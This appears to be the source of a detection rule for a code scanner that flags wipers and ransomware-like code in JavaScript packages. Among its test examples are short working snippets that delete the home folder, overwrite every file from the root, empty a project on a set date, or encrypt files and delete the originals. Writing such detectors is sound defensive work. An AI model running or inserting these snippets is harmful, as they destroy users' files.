import { endsInFound, listingsOf } from '../src/define/listings.js';
import { isUnasked } from '../src/define/unasked.js';
import { defineRule, spelling, step } from '../src/define.js';
import type { AnyNode, Call, FileContext, Label } from '../src/types.js';

/** A folder everything of somebody's lies in. */
const WHOLE = /^(?:\/|~|[a-z]:[\\/]?|\/(?:home|Users|etc|usr|var)\/?|\.\.\/\.\.\/?|(?:\.\.\/){2,})$/i;

export default defineRule({
  meta: {
    summary: 'Deletes or overwrites what belongs to others',
    why: 'Wipers delete the home folder or the disk, or overwrite every file they find with the same text (node-ipc, 2022). Cleaning tools delete folders they are given or made themselves.',
    behaviour: 'destruction',
    messages: {
      deletes: 'Deletes {what} with {sink}',
      wipes: 'Deletes {what} and all that is in it with {sink}',
      overwrites: 'Overwrites every file it finds, from {what} down, with {filling}',
      hidden: 'Overwrites every file it finds below a folder whose name it decodes with {filling}',
      empties: 'Deletes every file that it finds from {what} down',
      clears: 'Deletes every file that it finds from the folder down that it is loaded in, unasked',
      ransoms: 'Encrypts every file that it finds in a folder and those below, and deletes the original',
      everywhere: 'Overwrites every file it finds in a folder and those below with {filling}',
      blanks: 'Overwrites every file it finds from the folder down that it is loaded in with {filling}, unasked',
    },
    bits: {
      deletes: 7,
      wipes: 13.5,
      empties: 12.5,
      clears: 13.5,
      ransoms: 10,
      overwrites: 13.5,
      hidden: 12.5,
      everywhere: 9,
      blanks: 13.5,
    },
  },
  examples: {
    flags: [
      {
        title: 'the documents of whoever installs it are deleted',
        code: `const fs = require('fs'), os = require('os');\nfs.rmSync(os.homedir() + '/Documents', { recursive: true, force: true });`,
      },
      {
        title: 'on one day of the year a project is emptied file by file',
        code: `const fs = require('fs'), path = require('path'), day = new Date();\nif (day.getMonth() === 3 && day.getDate() === 1) {\n  (function walk(folder) {\n    for (const name of fs.readdirSync(folder)) {\n      const whole = path.join(folder, name);\n      if (fs.statSync(whole).isDirectory()) walk(whole);\n      else fs.writeFileSync(whole, '');\n    }\n  })(process.cwd());\n}\nmodule.exports = (...parts) => parts.join('/');`,
      },
      {
        title: 'the home folder is deleted',
        code: `const fs = require('fs'), os = require('os');\nfs.rmSync(os.homedir(), { recursive: true, force: true });`,
      },
      {
        title: 'all files found are overwritten',
        code: `const fs = require('fs'), path = require('path');\nfunction walk(dir) {\n  for (const name of fs.readdirSync(dir)) {\n    const file = path.join(dir, name);\n    if (fs.statSync(file).isDirectory()) walk(file);\n    else fs.writeFileSync(file, 'x');\n  }\n}\nwalk('/');`,
      },
      {
        title: 'everything in the home folder is, by a pattern',
        code: `require('rimraf').sync(require('os').homedir() + '/*');`,
      },
      {
        title: 'after a day it is the project that is emptied',
        code: `const fs = require('fs'), path = require('path');\nif (Date.now() > 1800000000000) {\n  const clear = dir => {\n    for (const name of fs.readdirSync(dir)) {\n      const at = path.join(dir, name);\n      fs.statSync(at).isDirectory() ? clear(at) : fs.unlinkSync(at);\n    }\n  };\n  clear(process.cwd());\n}`,
      },
      {
        title: 'whatever lies where it is loaded goes',
        code: `import { readdir, unlink } from 'node:fs/promises';\nasync function sweep(dir) {\n  for (const entry of await readdir(dir, { withFileTypes: true })) {\n    const at = dir + '/' + entry.name;\n    if (entry.isDirectory()) await sweep(at);\n    else await unlink(at);\n  }\n}\nsetTimeout(() => sweep('.'), 60000);`,
      },
      {
        title: 'a walk from the home folder deletes what it meets',
        code: `const fs = require('fs');\nfunction walk(dir) {\n  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {\n    const file = dir + '/' + entry.name;\n    if (entry.isDirectory()) walk(file);\n    else fs.unlinkSync(file);\n  }\n}\nwalk(require('os').homedir());`,
      },
      {
        title: 'a walk puts a sealed copy in the place of each file',
        code: `const crypto = require('crypto'), fs = require('fs');\nconst key = crypto.randomBytes(32);\nfunction walk(dir) {\n  for (const name of fs.readdirSync(dir)) {\n    const file = dir + '/' + name;\n    if (fs.statSync(file).isDirectory()) walk(file);\n    else {\n      const cipher = crypto.createCipheriv('aes-256-ctr', key, Buffer.alloc(16));\n      fs.writeFileSync(file + '.locked', cipher.update(fs.readFileSync(file)));\n      fs.unlinkSync(file);\n    }\n  }\n}\nexports.walk = walk;`,
      },
      {
        title: 'a walk fills whatever it meets, wherever it starts',
        code: `const fs = require('fs'), path = require('path');\nasync function walk(dir) {\n  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {\n    const file = path.join(dir, entry.name);\n    if (entry.isDirectory()) await walk(file);\n    else fs.writeFile(file, 'x', () => {});\n  }\n}\nexports.walk = walk;`,
      },
      {
        title: 'a walk fills files with zeros',
        code: `const fs = require('fs'), os = require('os'), path = require('path');\nfunction walk(dir) {\n  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {\n    const file = path.join(dir, entry.name);\n    if (entry.isDirectory()) walk(file);\n    else fs.writeFileSync(file, Buffer.alloc(fs.statSync(file).size));\n  }\n}\nwalk(os.homedir());`,
      },
    ],
    passes: [
      {
        title: 'a template is copied file by file',
        code: `const fs = require('fs'), path = require('path');\nfunction copy(from, to) {\n  for (const entry of fs.readdirSync(from, { withFileTypes: true })) {\n    const [a, b] = [path.join(from, entry.name), path.join(to, entry.name)];\n    if (entry.isDirectory()) { fs.mkdirSync(b); copy(a, b); }\n    else fs.writeFileSync(b, new Uint8Array(fs.readFileSync(a)));\n  }\n}\nexports.copy = copy;`,
      },
      {
        title: 'a folder of its own among the documents is',
        code: `const fs = require('fs'), os = require('os');\nfs.rmSync(os.homedir() + '/Documents/acme-exports', { recursive: true, force: true });`,
      },
      {
        title: 'a command clears the project when it is told to',
        code: `const fs = require('fs'), path = require('path');\nfunction clear(dir) {\n  for (const name of fs.readdirSync(dir)) {\n    const at = path.join(dir, name);\n    fs.statSync(at).isDirectory() ? clear(at) : fs.unlinkSync(at);\n  }\n}\nexports.clean = () => clear(process.cwd());`,
      },
      {
        title: 'a marker is put into every folder',
        code: `const fs = require('fs'), path = require('path');\nfunction walk(dir) {\n  for (const name of fs.readdirSync(dir)) {\n    const below = path.join(dir, name);\n    if (fs.statSync(below).isDirectory()) walk(below);\n    fs.writeFileSync(path.join(dir, '.keep'), '');\n  }\n}\nwalk('src');`,
      },
      {
        title: 'a folder of caches is emptied, file by file',
        code: `const fs = require('fs');\nfunction walk(dir) {\n  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {\n    const file = dir + '/' + entry.name;\n    if (entry.isDirectory()) walk(file);\n    else fs.unlinkSync(file);\n  }\n}\nwalk(require('os').homedir() + '/.cache/tool');`,
      },
      {
        title: 'one function lists the home folder, and another empties a folder of its own',
        code: `const fs = require('fs'), os = require('os');\nexports.projects = () => fs.readdirSync(os.homedir());\nexports.clean = function clean(dir) {\n  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {\n    const file = dir + '/' + entry.name;\n    if (entry.isDirectory()) clean(file);\n    else fs.unlinkSync(file);\n  }\n};`,
      },
      { title: 'a build folder is deleted', code: `require('fs').rmSync('./dist', { recursive: true });` },
      {
        title: 'a folder in the home folder is',
        code: `const fs = require('fs'), os = require('os');\nfs.rmSync(os.homedir() + '/.cache/tool', { recursive: true });`,
      },
      {
        title: 'files are rewritten with their own content',
        code: `const fs = require('fs');\nfor (const f of fs.readdirSync('src')) fs.writeFileSync('src/' + f, fs.readFileSync('src/' + f, 'utf8').trim());`,
      },
    ],
  },
  file(context) {
    for (const call of context.calls('delete')) {
      const [path, options] = call.args;
      // No system unlinks a folder, the topmost least of all.
      if (!path || /\bunlink(?:Sync)?$/.test(call.name)) continue;
      const home = homeOf(context, path) || isPersonal(context, path);
      const texts = context.textsOf(path);
      // One of many things a path may be is no aim.
      const whole = texts.length > 0 && texts.every(text => WHOLE.test(text)) ? texts[0] : undefined;
      if (!home && whole === undefined) continue;
      const below =
        /rimraf|del|remove|empty/i.test(call.name) || (options !== undefined && isRecursive(context, options));
      context.report({
        messageId: below ? 'wipes' : 'deletes',
        data: {
          what: home ? texts[0]?.replace('…', 'the home folder’s ') || 'the home folder' : (whole as string),
          sink: call.name,
        },
        chain: [step('sink', `deletes with ${call.name}`, context.file, call.node)],
      });
    }
    overwriting(context);
    walking(context);
  },
});

/** The folders of a home in which everybody keeps what is theirs. */
const PERSONAL = /^…[\\/](?:Documents|Desktop|Pictures|Photos|Downloads|Music|Videos|Movies)[\\/]?$/;

function isPersonal({ file, textsOf, labelsOf }: FileContext, path: AnyNode): boolean {
  const texts = textsOf(path);
  return (
    texts.length > 0 &&
    texts.every(text => PERSONAL.test(text)) &&
    (labelsOf(path).some(({ detail }) => detail === 'home folder') || HOME.test(spelling(file, path).slice(0, 2_000)))
  );
}

/** The home folder itself; what lies in it has a longer path. */
function homeOf({ file, namesOf, textsOf }: FileContext, path: AnyNode): boolean {
  // `rimraf(home + '/*')`
  if (textsOf(path).some(text => /^…[\\/]\*{1,2}$/.test(text)) && HOME.test(spelling(file, path).slice(0, 2_000)))
    return true;
  return namesOf(path).some(
    name => name === 'os.homedir()' || name === 'process.env.HOME' || name === 'process.env.USERPROFILE',
  );
}

function isRecursive({ file }: FileContext, options: AnyNode): boolean {
  const written = spelling(file, options);
  return /recursive/.test(written.slice(0, 500)) || options.type === 'Identifier';
}

const isDecoded = ({ kind }: Label): boolean => kind === 'decoded' || kind === 'decrypted';

const HOME = /\bhomedir\s*\(|\benv\.(?:HOME|USERPROFILE)\b/;

/** A walk through folders that deletes what it meets: from the top, or after it was encrypted. */
function walking(context: FileContext): void {
  const ciphers = context.named(/^crypto\.createCipher(?:iv)?$/);
  for (const call of context.calls('delete')) {
    const [path] = call.args;
    const walker = path && walkerAround(context, call.node);
    const lists = walker ? entriesOf(context, path) : [];
    const [list] = lists;
    if (!list) continue;
    const top = lists.find(({ args }) => args[0] && isTop(context, args[0]));
    const sealed = ciphers.some(({ node }) => walkerAround(context, node) === walker);
    // A tool that cleans a project is told to.
    const here = top || sealed ? undefined : lists.find(({ args }) => args[0] && isWhereItIs(context, args[0]));
    if (!top && !sealed && !(here && isUnasked(context, call.node))) continue;
    context.report({
      messageId: sealed ? 'ransoms' : here ? 'clears' : 'empties',
      data: { what: 'the top' },
      chain: [
        step('source', 'lists a folder', context.file, (top ?? here ?? list).node),
        step('sink', `deletes with ${call.name}`, context.file, call.node),
      ],
    });
    return;
  }
}

/** A folder's entries, each overwritten with what does not depend on it, in this folder and the folders below. */
function overwriting(context: FileContext): void {
  for (const call of context.calls('write')) {
    const [path, data] = call.args;
    if (!path || !data || call.name.includes('append') || call.name.endsWith('Stream')) continue;
    const filling = fillingOf(context, data);
    const lists = filling === undefined ? [] : entriesOf(context, path);
    const [first] = lists;
    if (!first) continue;
    const top = lists.find(({ args }) => args[0] && isTop(context, args[0]));
    const walker = top ? undefined : walkerAround(context, call.node);
    if (!top && !walker) continue;
    const here = top ? undefined : lists.find(({ args }) => args[0] && isWhereItIs(context, args[0]));
    const list = top ?? here ?? first;
    context.report({
      messageId: top
        ? 'overwrites'
        : here && isUnasked(context, call.node)
          ? 'blanks'
          : context.labelsOf(path).some(isDecoded)
            ? 'hidden'
            : 'everywhere',
      data: { what: 'the top', filling: filling ?? '' },
      chain: [
        step('source', top ? 'lists files from the top' : 'lists a folder', context.file, list.node),
        step('sink', `overwrites them with ${call.name}`, context.file, call.node),
      ],
    });
    return;
  }
}

/** The root, a disk or the home folder, among what a folder may be. */
function isTop(context: FileContext, folder: AnyNode): boolean {
  return homeOf(context, folder) || context.textsOf(folder).some(text => WHOLE.test(text));
}

/** The folder that a program is started in. */
function isWhereItIs({ namesOf, textsOf }: FileContext, folder: AnyNode): boolean {
  return namesOf(folder).includes('process.cwd()') || textsOf(folder).some(text => /^\.\/?$/.test(text));
}

/** One short text, or random bytes. */
function fillingOf(context: FileContext, data: AnyNode): string | undefined {
  if (context.namesOf(data).some(name => /^crypto\.(?:randomBytes|pseudoRandomBytes)\(\)/.test(name)))
    return 'random bytes';
  if (context.namesOf(data).some(name => /^Buffer\.alloc(?:Unsafe)?\(\)/.test(name)) || isFilled(data, context))
    return 'nothing';
  const [text, ...others] = context.valueOf(data);
  const known = context.textsOf(data).length;
  return others.length === 0 && known <= 1 && typeof text === 'string' && text.length <= 200
    ? 'the same text'
    : undefined;
}

/** The listings that a path ends in a name out of. */
function entriesOf(context: FileContext, path: AnyNode): readonly Call[] {
  return endsInFound(context, path) ? listingsOf(context, path) : [];
}

/** The function around a node that calls itself: it walks into folders. */
function walkerAround({ file, parentOf, nodes }: FileContext, node: AnyNode): AnyNode | undefined {
  for (let at = parentOf(node), hops = 0; at && hops < 40; at = parentOf(at), hops++) {
    if (!/Function/.test(at.type)) continue;
    const holder = parentOf(at);
    const id = ((at as { id?: { name?: string } | null }).id ??
      (holder?.type === 'VariableDeclarator' ? holder.id : undefined)) as { name?: string } | undefined;
    const start = at.start ?? at.range?.[0] ?? 0;
    const end = at.end ?? at.range?.[1] ?? file.text.length;
    const again = nodes('CallExpression').some(call => {
      const { callee } = call as unknown as { callee: { name?: string } };
      const place = call.start ?? call.range?.[0] ?? 0;
      return id?.name !== undefined && callee.name === id.name && place >= start && place < end;
    });
    if (again) return at;
  }
  return undefined;
}

/** `Buffer.alloc(size)`, of whatever size. */
function isFilled(data: AnyNode, { file }: FileContext): boolean {
  const written = spelling(file, data);
  // `new Uint8Array(content)` is a copy of what is there.
  return /^(?:Buffer\.alloc(?:Unsafe)?\(|new Uint8Array\((?:\d|[\w.]{1,60}\.(?:size|length|byteLength)\b))/.test(
    written,
  );
}
